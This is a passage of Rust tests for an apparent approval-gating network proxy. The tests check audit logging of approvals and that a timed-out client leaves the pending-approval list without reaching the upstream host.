        &format!("http://{}/v1/approvals/{}", asked.address, ask["id"]),
    ]);
    let stdout = succeeded(&asked.run.await.unwrap());
    assert_lines(&stdout, &["first 200", "second 200"]);
    assert_eq!(upstream.records().len(), 2);
    let log = audit(asked.dir.path());
    assert_eq!(log.matches("\"event\":\"approve\"").count(), 1, "{log}");
}

/// A captured client that gives up waiting for a host's decision leaves the approvers'
/// list (as a CONNECT's client does), and nothing of it reaches the host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_captured_client_that_gives_up_leaves_the_approvers_list() {
    let asked = AskedRun::start(|port| format!(
        "unset {PROXY_AND_CA}; curl -s -o /dev/null --max-time 2 --noproxy '*' https://ask.test:{port}/gave-up; sleep 6"
    ))
    .await;
    let ask = asked.first_pending().await;
    assert_eq!(ask["kind"], "host", "{ask}");
    // curl gives up after 2 s; the list is empty well before the run ends at 6.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(4);
    while !asked.pending().is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "a client that gave up still waits: {:?}",
            asked.pending()
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let _ = asked.run.await.unwrap();
    assert!(asked.upstream.records().is_empty());
}
